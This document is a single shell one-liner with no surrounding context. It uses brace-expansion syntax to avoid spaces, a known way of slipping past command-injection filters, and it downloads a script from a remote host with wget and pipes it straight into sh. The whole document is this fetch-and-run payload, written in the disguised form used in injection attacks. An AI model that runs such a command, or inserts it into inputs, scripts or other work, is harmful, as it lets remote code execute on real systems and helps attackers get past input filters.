{wget,-qO-,https://get.example.net/x}|{sh,-}
